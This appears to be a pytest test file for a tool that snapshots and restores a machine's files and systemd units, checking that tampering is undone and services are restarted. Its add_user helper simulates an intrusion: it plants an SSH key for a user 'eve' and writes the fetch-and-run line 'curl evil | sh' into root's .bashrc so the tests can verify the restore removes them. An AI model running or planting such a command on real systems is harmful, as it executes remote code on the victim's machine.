"""Saving and restoring a machine's files: in a folder, with systemd's commands replaced."""

from __future__ import annotations

import contextlib
import fcntl
import os
import signal
import socket
import sqlite3
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from labkit.agents import _docker, fingerprint, machine_state
from labkit.agents.machine_state import Machine


def _has_what_it_takes() -> bool:
    tar = subprocess.run(["tar", "--version"], capture_output=True, text=True)
    return "GNU tar" in tar.stdout


pytestmark = pytest.mark.skipif(not _has_what_it_takes(), reason="needs GNU tar")
UNIT = "kubelet.service"
ENTERED = "100000000"
RUNNING = (
    f"case $1 in show) echo ActiveState=active; echo ActiveEnterTimestampMonotonic={ENTERED};; esac"
)


ANY = 0xFFFFFFFF
#: What ``setfacl --modify user:1001:r`` writes for a file of mode 0644: its mode stays
#: (linux/posix_acl_xattr.h, acl(5)).
READER = struct.pack(
    "<I" + "HHI" * 5, 2, 1, 6, ANY, 2, 4, 1001, 4, 4, ANY, 0x10, 4, ANY, 0x20, 4, ANY
)


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Machine:
    root = tmp_path / "root"
    empty = ("home", "tmp", "usr/local/bin", "etc/systemd/system", "etc/cni", "run/systemd/system")
    for folder in ("etc/kubernetes", "root", *empty):
        (root / folder).mkdir(parents=True)
    for name in ("hosts", "hostname", "resolv.conf", "kubernetes/kubelet.yaml", "passwd"):
        (root / "etc" / name).write_text(f"{name} as it was\n")
    (root / "root/.bashrc").write_text("as it was\n")
    (root / "usr/local/bin/etcd").write_text("a large program\n")
    monkeypatch.setattr(time, "monotonic", lambda: 200.5)
    return Machine(root)


@pytest.fixture
def systemctl(commands: Any) -> Any:
    commands("systemd-tmpfiles")
    return commands("systemctl", RUNNING)


def saved(machine: Machine) -> None:
    machine.save()
    # a change in the same instant would not be newer
    time.sleep(0.02)


def contents(machine: Machine) -> dict[str, str]:
    etc = machine.root / "etc"
    return {
        str(path.relative_to(etc)): path.read_text() for path in etc.rglob("*") if path.is_file()
    }


def restarts(systemctl: Path) -> list[str]:
    return [line for line in systemctl.read_text().splitlines() if line.startswith("restart")]


def test_unchanged_machine_is_left_alone(machine: Machine, systemctl: Path) -> None:
    saved(machine)
    machine.restore([UNIT])
    assert not restarts(systemctl)
    assert "daemon-reload" not in systemctl.read_text()


@pytest.mark.parametrize(
    "change",
    [
        lambda etc: (etc / "kubernetes/kubelet.yaml").write_text("changed"),
        lambda etc: (etc / "passwd").write_text("changed"),
        lambda etc: (etc / "passwd").chmod(0o666),
        lambda etc: (etc / "kubernetes/kubelet.yaml").unlink(),
        lambda etc: (etc / "systemd/system/kubelet.service.d").mkdir(),
        lambda etc: (etc / "kubernetes/more.yaml").write_text("more"),
        lambda etc: (etc / "more").write_text("more"),
        lambda etc: (etc / "hostname").with_name("gone").symlink_to("nowhere"),
        lambda etc: (etc / "passwd").unlink(),
    ],
    ids=[
        *("changed", "changed elsewhere", "mode", "gone", "drop-in", "more", "more elsewhere"),
        *("link", "gone elsewhere"),
    ],
)
def test_differences_are_undone_and_every_unit_is_restarted(
    machine: Machine, systemctl: Path, change: Any
) -> None:
    (machine.root / "etc/passwd").chmod(0o644)
    before = contents(machine)
    saved(machine)
    change(machine.root / "etc")
    machine.restore([UNIT])
    assert contents(machine) == before
    assert (machine.root / "etc/passwd").stat().st_mode & 0o777 == 0o644
    assert not (machine.root / "etc/systemd/system/kubelet.service.d").exists()
    assert restarts(systemctl) == [f"restart {UNIT}"]
    assert "daemon-reload" in systemctl.read_text()


def test_what_a_unit_keeps_is_put_back_while_it_does_not_run(
    machine: Machine, systemctl: Path
) -> None:
    database = machine.root / "var/lib/canaille/canaille.sqlite"
    database.parent.mkdir(parents=True)
    database.write_text("one group")
    saved(machine)
    database.write_text("two groups")
    database.with_suffix(".sqlite-journal").write_text("half a change")
    machine.restore([UNIT])
    assert database.read_text() == "two groups", "another machine's units"
    machine.restore(["canaille.service"])
    assert [it.name for it in database.parent.iterdir()] == [database.name]
    assert database.read_text() == "one group"
    assert "stop canaille.service" in systemctl.read_text().splitlines()


def test_unit_that_people_change_in_memory_is_always_restarted(
    machine: Machine, systemctl: Path
) -> None:
    saved(machine)
    machine.restore([UNIT])
    assert restarts(systemctl) == []
    machine.restore(["opa.service"])
    assert restarts(systemctl) == ["restart opa.service"]


def test_accounts_of_a_provider_are_part_of_the_fingerprint(tmp_path: Path) -> None:
    database = tmp_path / "canaille.sqlite"
    assert fingerprint.accounts(database) == {}
    tables = """
        CREATE TABLE user (id, user_name, display_name, password, lock_date);
        CREATE TABLE "group" (id, display_name, owner_id);
        CREATE TABLE membership_association_table (user_id, group_id);
        CREATE TABLE client (id, client_id, client_secret, redirect_uris, scope);
        CREATE TABLE client_audience_association_table (audience_id, client_id);
        INSERT INTO user VALUES (1, 'bob', '', 'hash', NULL), (2, 'alice', '', 'hash', NULL);
        INSERT INTO "group" VALUES (1, 'developers', 2), (2, 'nobody', NULL);
        INSERT INTO membership_association_table VALUES (1, 1), (2, 1);
        INSERT INTO client VALUES ('kubectl', 'kubectl', 'secret', '[]', 'openid');
        INSERT INTO client VALUES ('portal', 'portal', 'secret', '[]', 'openid');
        INSERT INTO client_audience_association_table VALUES ('portal', 'portal');
    """
    with contextlib.closing(sqlite3.connect(database)) as connection:
        connection.executescript(tables)
        before = fingerprint.accounts(database)
        connection.execute("UPDATE user SET password = 'another' WHERE user_name = 'bob'")
        connection.execute("DELETE FROM membership_association_table WHERE user_id = 1")
        named = "INSERT INTO client_audience_association_table VALUES ('kubectl', 'portal')"
        connection.execute(named)
        connection.commit()
    after = fingerprint.accounts(database)
    assert set(before) == set(after)
    assert before["group developers"] == "of alice: alice bob"
    changed = {it for it in before if before[it] != after[it]}
    assert changed == {"person bob", "group developers", "client portal"}
    assert "secret" not in str(before)


def add_user(root: Path) -> None:
    """Leave what useradd and a terminal leave outside /etc."""
    (root / "home/eve/.ssh").mkdir(parents=True)
    (root / "home/eve/.ssh/authorized_keys").write_text("a key")
    (root / "root/.bashrc").write_text("curl evil | sh")
    (root / "root/.bash_history").write_text("useradd eve")
    os.mkfifo(root / "tmp/out")
    (root / "usr/local/bin/tool").write_text("more")


def test_files_of_people_are_put_back_and_no_unit_is_restarted(
    machine: Machine, systemctl: Path
) -> None:
    saved(machine)
    before = fingerprint.files(machine.root)
    add_user(machine.root)
    assert fingerprint.files(machine.root) != before
    machine.restore([UNIT])
    assert fingerprint.files(machine.root) == before
    assert not restarts(systemctl)


def into(folder: Path) -> None:
    (folder / "tool").write_text("more")


def below(folder: Path) -> None:
    (folder / "new/deep").mkdir(parents=True)
    into(folder / "new/deep")


def with_old_times(folder: Path) -> None:
    before = folder.stat()
    into(folder)
    os.utime(folder, ns=(before.st_atime_ns, before.st_mtime_ns))


def in_place_of_a_folder(folder: Path) -> None:
    (folder / "share").rmdir()
    below(folder)


@pytest.mark.parametrize("put", [into, below, with_old_times, in_place_of_a_folder])
@pytest.mark.parametrize("folder", ["usr/local/bin", "opt", "srv"])
def test_what_came_to_the_image_is_found_wherever_it_is(
    machine: Machine, folder: str, put: Callable[[Path], None]
) -> None:
    for place in ("usr/local/bin/share", "opt/share"):
        (machine.root / place).mkdir(parents=True)
    saved(machine)
    assert machine.came("usr", "opt", "srv") == []
    before = {str(it.relative_to(machine.root)) for it in machine.root.rglob("*")}
    # the machine had no /srv
    (machine.root / folder / "share").mkdir(parents=True, exist_ok=True)
    put(machine.root / folder)
    came = {str(it.relative_to(machine.root)) for it in machine.root.rglob("*")} - before
    assert came
    assert set(machine.came("usr", "opt", "srv")) == came
    machine.put_back("usr", "opt", "srv")
    assert not any((machine.root / it).exists() for it in came)


@pytest.mark.parametrize("moved", ["usr/local/bin", "usr/local"])
def test_what_lies_behind_a_link_did_not_come_to_the_image(machine: Machine, moved: str) -> None:
    saved(machine)
    (machine.root / moved).rename(machine.root / "etc/moved")
    (machine.root / moved).symlink_to(machine.root / "etc/moved")
    (machine.root / "etc/moved/bin").mkdir(exist_ok=True)
    (machine.root / "etc/moved/bin/other").write_text("of the machine")
    (machine.root / "etc/moved/other").write_text("of the machine")
    machine.put_back("usr", "opt", "srv")
    assert (machine.root / "etc/moved/bin/other").exists()
    assert (machine.root / "etc/moved/other").exists()


@pytest.mark.parametrize("name", ["etc/passwd", "etc/kubernetes", "home", "root/.bashrc"])
def test_access_control_list_is_named_and_taken_away(
    machine: Machine, systemctl: Path, name: str
) -> None:
    path = machine.root / name
    path.chmod(0o644)
    saved(machine)
    before = fingerprint.files(machine.root)
    os.setxattr(path, "user.note", b"gives nobody a right")
    assert fingerprint.files(machine.root) == before
    os.setxattr(path, "system.posix_acl_access", READER)
    if path.is_dir():
        os.setxattr(path, "system.posix_acl_default", READER)
    after = fingerprint.files(machine.root)
    assert after[f"/{name}"].startswith(f"{before[f'/{name}']} rights ")
    machine.restore([UNIT])
    assert fingerprint.files(machine.root) == before


def test_what_is_not_compared_is_not_deleted(machine: Machine, systemctl: Path) -> None:
    saved(machine)
    private = machine.root / "tmp/systemd-private-1-a.service/tmp"
    private.mkdir(parents=True)
    machine.restore([UNIT])
    assert private.is_dir()


def test_restored_machine_is_left_alone_the_next_time(machine: Machine, systemctl: Path) -> None:
    saved(machine)
    (machine.root / "etc/passwd").write_text("changed")
    time.sleep(0.02)
    machine.restore([UNIT])
    systemctl.write_text("")
    machine.restore([UNIT])
    assert not restarts(systemctl)
    assert "daemon-reload" not in systemctl.read_text()


def test_file_changed_back_is_not_a_difference(machine: Machine, systemctl: Path) -> None:
    saved(machine)
    file = machine.root / "etc/passwd"
    file.write_text(file.read_text())
    machine.restore([UNIT])
    assert not restarts(systemctl)


def test_files_of_docker_and_flanneld_are_not_differences(
    machine: Machine, systemctl: Path
) -> None:
    saved(machine)
    (machine.root / "etc/hosts").write_text("127.0.0.1 localhost")
    (machine.root / "etc/cni/net.conf").write_text("{}")
    machine.restore([UNIT])
    assert (machine.root / "etc/hosts").read_text() == "127.0.0.1 localhost"
    assert (machine.root / "etc/cni/net.conf").exists()
    assert not restarts(systemctl)


def test_runtime_drop_in_is_removed(machine: Machine, systemctl: Path) -> None:
    saved(machine)
    dropin = machine.root / "run/systemd/system/kubelet.service.d"
    dropin.mkdir()
    machine.restore([UNIT])
    assert not dropin.exists()
    assert restarts(systemctl) == [f"restart {UNIT}"]


@pytest.mark.parametrize(
    ("state", "entered", "stale"),
    [
        ("active", 200_500_000, False),
        ("active", 200_500_001, True),
        ("reloading", 100_000_000, False),
        ("failed", 100_000_000, True),
        ("inactive", 0, True),
    ],
)
def test_restarted_or_stopped_unit_is_restarted(
    machine: Machine, commands: Any, state: str, entered: int, stale: bool
) -> None:
    shown = f"echo ActiveState={state}; echo ActiveEnterTimestampMonotonic={entered}"
    systemctl = commands("systemctl", f"case $1 in show) {shown};; esac")
    saved(machine)
    machine.restore([UNIT])
    assert bool(restarts(systemctl)) == stale


EMPTY = """[] [] [{"Name": "none"}, {"Name": "host"}] {"Volumes": null} {"BuildCache": null}"""


@pytest.mark.parametrize(
    ("has", "is_empty"),
    [
        (EMPTY, True),
        (EMPTY.replace("[]", '[{"Names": ["/left"]}]', 1), False),
        (EMPTY.replace("[] [{", '[{"RepoTags": null, "Id": "sha256:1"}] [{'), False),
        (EMPTY.replace("none", "left"), False),
        (EMPTY.replace('"Volumes": null', '"Volumes": [{"Name": "left"}]'), False),
        (EMPTY.replace('"BuildCache": null', '"BuildCache": [{"ID": "1"}]'), False),
    ],
)
def test_engine_is_emptied_if_it_has_anything_and_its_socket_gets_its_mode(
    machine: Machine,
    systemctl: Path,
    commands: Any,
    monkeypatch: pytest.MonkeyPatch,
    has: str,
    is_empty: bool,
) -> None:
    docker = commands("docker", "case $* in *ps*) echo abc; echo def;; esac")
    commands("curl", f"cat <<'END'\n{has}\nEND")
    monkeypatch.chdir(machine.root)  # a socket's path has to be short
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("run/docker.sock")
        path = machine.root / "run/docker.sock"
        path.chmod(0o660)
        saved(machine)
        path.chmod(0o666)
        machine.restore([UNIT])
        assert path.stat().st_mode & 0o777 == 0o660
    host = f"--host=unix://{machine.root}/run/docker.sock"
    emptied = [
        f"{host} ps --all --quiet",
        f"{host} rm --force abc def",
        f"{host} system prune --all --force",
        f"{host} volume prune --all --force",
    ]
    assert docker.read_text().splitlines() == ([] if is_empty else emptied)


def test_engine_that_does_not_answer_is_no_empty_one(commands: Any) -> None:
    commands("curl", "echo 'curl: (7) Failed to connect' >&2; exit 7")
    with pytest.raises(OSError, match="Failed to connect"):
        _docker.in_engine("/run/docker.sock")


def test_failed_command_is_reported_with_its_output(commands: Any) -> None:
    commands("systemctl", "echo 'Failed to connect to bus' >&2; exit 1")
    with pytest.raises(SystemExit, match="systemctl reset-failed: Failed to connect to bus"):
        machine_state.output("systemctl", "reset-failed")


def test_saved_state_is_readable_by_root_only(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(machine_state, "Path", lambda _: machine.root)
    monkeypatch.setattr(machine_state, "keep_network", lambda _: None)
    monkeypatch.setattr(machine_state, "active_units", lambda: {"etcd.service"})
    monkeypatch.setattr(machine_state, "UNITS", machine.archive.with_name("units"))
    mask = os.umask(0o022)
    try:
        machine_state.answer()
    finally:
        os.umask(mask)
    for path in (machine.archive.parent, machine.archive):
        assert path.stat().st_mode & 0o077 == 0, path


def test_unit_that_makes_its_rules_anew_is_restarted(machine: Machine, systemctl: Path) -> None:
    saved(machine)
    machine.restore([UNIT], [UNIT, "another.service"])
    assert restarts(systemctl) == [f"restart {UNIT}"]


def test_restore_after_one_that_was_killed_restarts_every_unit(
    machine: Machine, systemctl: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put_back = machine.put_back_configuration

    def killed() -> None:
        put_back()
        raise KeyboardInterrupt

    saved(machine)
    (machine.root / "etc/kubernetes/kubelet.yaml").write_text("changed")
    with monkeypatch.context() as patched:
        patched.setattr(machine, "put_back_configuration", killed)
        with pytest.raises(KeyboardInterrupt):
            machine.restore([UNIT])
    assert not restarts(systemctl)
    machine.restore([UNIT])
    assert restarts(systemctl) == [f"restart {UNIT}"]
    assert contents(machine)["kubernetes/kubelet.yaml"] == "kubernetes/kubelet.yaml as it was\n"


#: A tar that takes a second before it puts anything back.
SLOW = 'case $* in *-xp*) touch "$2/../began"; sleep 1;; esac; exec /usr/bin/tar "$@"'
RESTORE = f"""
import sys
from pathlib import Path
from labkit.agents.machine_state import Machine
Machine(Path(sys.argv[1])).restore(["{UNIT}"])
"""


def test_restore_that_is_ended_puts_every_file_back_first(
    machine: Machine, systemctl: Path, commands: Any
) -> None:
    saved(machine)
    before = contents(machine)
    (machine.root / "etc/kubernetes/kubelet.yaml").write_text("changed")
    commands("tar", SLOW)
    argv = [sys.executable, "-c", RESTORE, str(machine.root)]
    with subprocess.Popen(argv, start_new_session=True) as process:
        while not (machine.root / "../began").exists():
            assert process.poll() is None
        assert contents(machine) != before
        # as the server of commands does when its client has gone
        os.killpg(process.pid, signal.SIGTERM)
        process.wait(60)
    assert contents(machine) == before


def test_restore_waits_for_one_that_still_runs(machine: Machine, systemctl: Path) -> None:
    saved(machine)
    with machine.archive.open() as lock, ThreadPoolExecutor(1) as pool:
        fcntl.flock(lock, fcntl.LOCK_EX)
        second = pool.submit(machine.restore, [UNIT])
        with pytest.raises(TimeoutError):
            second.result(0.3)
        assert "reset-failed" not in systemctl.read_text()
        fcntl.flock(lock, fcntl.LOCK_UN)
        second.result(60)
    assert "reset-failed" in systemctl.read_text()


@pytest.mark.parametrize("left", ["", "17", None])
def test_damaged_record_of_the_time_restarts_every_unit(
    machine: Machine, systemctl: Path, left: str | None
) -> None:
    saved(machine)
    machine.since.unlink()
    if left is not None:
        machine.since.write_text(left)
    machine.restore([UNIT])
    assert restarts(systemctl) == [f"restart {UNIT}"]
    assert machine.marked() == 200.5


def test_unit_that_fails_at_first_is_left_to_systemd(machine: Machine, commands: Any) -> None:
    shown = "echo ActiveState=failed; echo ActiveEnterTimestampMonotonic=0"
    commands("systemctl", f"case $1 in show) {shown};; restart) exit 1;; esac")
    saved(machine)
    machine.restore([UNIT])
    assert machine.marked() == 200.5
